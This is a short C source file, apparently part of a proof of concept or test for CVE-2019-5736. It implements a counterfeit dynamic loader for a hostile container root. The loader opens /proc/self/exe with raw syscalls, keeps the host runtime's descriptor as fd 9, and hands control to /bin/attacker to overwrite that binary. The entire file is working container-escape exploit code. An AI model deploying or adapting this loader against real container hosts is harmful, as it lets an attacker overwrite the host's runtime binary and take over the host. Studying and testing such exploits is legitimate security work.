// The dynamic loader of a hostile root, /lib64/ld-linux-x86-64.so.2: runs in place of the C
// library's in any dynamic program that is executed there, also in one of the host's that was
// reached through /proc/self/exe. It keeps a descriptor of that program and goes on as
// /bin/attacker. CVE-2019-5736
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
  long result;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return result;
}

__attribute__((noreturn, used, force_align_arg_pointer)) void _start(void) {
  // Number 9, where the attacker looks for it.
  const long self = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
  call(SYS_dup2, self, 9, 0, 0);
  const char* const argv[] = {"attacker", "overwrite", 0};
  const char* const envp[] = {0};
  call(SYS_execve, (long)"/bin/attacker", (long)argv, (long)envp, 0);
  call(SYS_exit_group, 97, 0, 0, 0);
  __builtin_unreachable();
}
